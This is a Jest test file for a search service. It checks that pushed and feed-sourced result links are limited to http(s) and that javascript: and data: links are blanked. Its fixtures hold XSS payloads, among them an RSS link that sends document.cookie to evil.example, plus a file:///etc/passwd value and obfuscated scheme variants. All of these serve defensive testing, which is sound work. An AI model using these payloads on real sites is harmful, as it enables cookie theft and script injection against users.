import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { safeWebUrl } from '../../src/shared/web-url.js';
import { graphql, startTestServer, type TestServer } from '../support/harness.js';
import { api, FAST_WORKER, waitForJob, type Api } from '../support/sync-helpers.js';

/**
 * Issue 12, finding 13: a pushed entity's `web_url` could be `javascript:…`, and search returned it
 * as is, ready for an `href`. Pushed links must now be absolute http(s) URLs (422 otherwise), and
 * search shows no link whose scheme no source produces, whichever source stored it (here an RSS
 * feed whose item links to `javascript:`).
 */

const FEED = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Mixed links</title><link>https://news.example/</link><description>d</description>
<item><guid isPermaLink="false">evil</guid><title>Quokka alert</title><link>javascript:fetch('https://evil.example/?c='+document.cookie)</link>
<description>quokka evil item</description><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate></item>
<item><guid isPermaLink="false">fine</guid><title>Quokka news</title><link>https://news.example/fine</link>
<description>quokka fine item</description><pubDate>Mon, 02 Jun 2025 11:00:00 GMT</pubDate></item>
</channel></rss>`;

const PUSH = `mutation ($id: ID!, $entities: [PushEntityInput!]) { pushEntities(sourceConnectionId: $id, entities: $entities) { id } }`;

describe('issue 12-13: links are http(s), or a scheme a source produces', () => {
  let server: TestServer;
  let feedServer: Server;
  let feedUrl: string;
  let call: Api;
  let pushConnection: string;

  beforeAll(async () => {
    feedServer = createServer((_request, response) => response.writeHead(200, { 'content-type': 'application/rss+xml' }).end(FEED));
    await new Promise<void>((resolve) => feedServer.listen(0, '127.0.0.1', resolve));
    feedUrl = `http://127.0.0.1:${(feedServer.address() as AddressInfo).port}/feed.xml`;
    server = await startTestServer({ deployment: 'servers', env: FAST_WORKER });
    call = api(server.url, server.apiKey);
    expect((await call('POST', '/collections', { name: 'Issue 12-13', readable_id: 'issue12-13' })).status).toBe(200);
    pushConnection = (await call('POST', '/source-connections', { short_name: 'push', readable_collection_id: 'issue12-13' })).body.id;
  }, 60_000);
  afterAll(async () => {
    await server?.stop();
    await new Promise((resolve) => feedServer?.close(resolve));
  });

  const entity = (id: string, webUrl: string) => ({ id, name: id, text: `quokka ${id}`, web_url: webUrl });

  test('REST: a pushed web_url other than http(s) is a 422 at its place, and nothing is stored', async () => {
    const refused = await call('POST', `/source-connections/${pushConnection}/entities`, {
      entities: [entity('ok', 'https://wiki.example/ok'), entity('script', 'javascript:alert(document.cookie)'), entity('vbscript', 'vbscript:msgbox(1)'), entity('file', 'file:///etc/passwd')],
    });
    expect(refused.status).toBe(422);
    expect(refused.body.detail).toEqual([1, 2, 3].map((index) => ({ loc: ['body', 'entities', index, 'web_url'], msg: "URL scheme should be 'http' or 'https'", type: 'url_scheme' })));
    // Refused by the OpenAPI document's `format: uri` already, or by the service: a 422 at the same place either way.
    for (const webUrl of [' JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', '/wiki/page']) {
      const response = await call('POST', `/source-connections/${pushConnection}/entities`, { entities: [entity('bad', webUrl)] });
      expect([response.status, response.body.detail[0].loc]).toEqual([422, ['body', 'entities', 0, 'web_url']]);
    }
    expect((await call('GET', `/source-connections/${pushConnection}/jobs`)).body).toEqual([]);
  });

  test('GraphQL: the same rule, as BAD_USER_INPUT', async () => {
    const refused = await graphql(server.url, PUSH, { id: pushConnection, entities: [{ id: 'x', text: 't', webUrl: 'javascript:alert(1)' }] }, { apiKey: server.apiKey });
    expect(refused.body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', detail: [{ loc: ['entities', 0, 'web_url'], type: 'url_scheme' }] });
  });

  test.each([
    ['https://wiki.example/a?b=1', 'https://wiki.example/a?b=1'],
    ['file:///srv/docs/guide.md', 'file:///srv/docs/guide.md'],
    ['postgresql://db.internal:5432/app/public.notes/7', 'postgresql://db.internal:5432/app/public.notes/7'],
    ['mysql://db.internal:3306/app/notes/7', 'mysql://db.internal:3306/app/notes/7'],
    ['javascript:alert(1)', ''],
    ['\u0001 JavaScript:alert(1)', ''],
    ['data:text/html,<script>alert(1)</script>', ''],
    ['', ''],
  ])('a result link %j is shown as %j', (stored, shown) => {
    expect(safeWebUrl(stored)).toBe(shown);
  });

  test('search shows no javascript: link, whichever source stored it, and keeps http(s) links', async () => {
    const pushed = await call('POST', `/source-connections/${pushConnection}/entities`, { entities: [entity('pushed', 'HTTPS://wiki.example/quokka'), entity('legacy', 'https://wiki.example/legacy')] });
    expect(pushed.status).toBe(200);
    await waitForJob(call, pushConnection, pushed.body.job.id, ['COMPLETED']);
    // An entity pushed before pushes were checked: its chunk is stored again with script links.
    const collectionId = (await call('GET', '/collections/issue12-13')).body.id;
    const index = await server.running.core.vectors();
    const [legacy] = await index.list(collectionId, [{ conditions: [{ field: 'entity_id', operator: 'equals', value: 'legacy' }] }], 10);
    const [vector] = await (await server.running.core.embedder()).embed([legacy!.text]);
    await index.deleteEntities(collectionId, pushConnection, ['legacy']);
    await index.add(collectionId, [{ ...legacy!, vector: vector!, webUrl: 'javascript:alert(document.cookie)', url: 'data:text/html,<script>alert(1)</script>' }]);
    await index.optimize(collectionId);
    // A feed whose item links to javascript: (the RSS source may also drop such a link itself).
    const rss = await call('POST', '/source-connections', { short_name: 'rss', readable_collection_id: 'issue12-13', config: { feed_urls: [feedUrl] } });
    expect(rss.status).toBe(200);
    const [job] = (await call('GET', `/source-connections/${rss.body.id}/jobs`)).body;
    expect(await waitForJob(call, rss.body.id, job.id, ['COMPLETED', 'FAILED'])).toMatchObject({ status: 'COMPLETED' });

    for (const strategy of ['keyword', 'semantic', 'hybrid']) {
      const response = await call('POST', '/collections/issue12-13/search/instant', { query: 'quokka', retrieval_strategy: strategy, limit: 20 });
      expect(response.status).toBe(200);
      const links = Object.fromEntries(response.body.results.map((result: { entity_id: string; web_url: string; url: string | null }) => [result.entity_id, [result.web_url, result.url]]));
      expect(links).toMatchObject({ pushed: ['HTTPS://wiki.example/quokka', null], legacy: ['', null], fine: ['https://news.example/fine', null] });
      expect(links.evil?.[0]).toMatch(/^(https?:\/\/|$)/);
    }
    const viaGraphql = await graphql(
      server.url,
      'query ($c: String!) { searchInstant(readableId: $c, input: { query: "quokka legacy", retrievalStrategy: keyword }) { results { entityId webUrl url } } }',
      { c: 'issue12-13' },
      { apiKey: server.apiKey },
    );
    if (viaGraphql.body.errors) throw new Error(JSON.stringify(viaGraphql.body.errors));
    expect(viaGraphql.body.data.searchInstant.results.find((result: { entityId: string }) => result.entityId === 'legacy')).toEqual({ entityId: 'legacy', webUrl: '', url: null });
  });
});
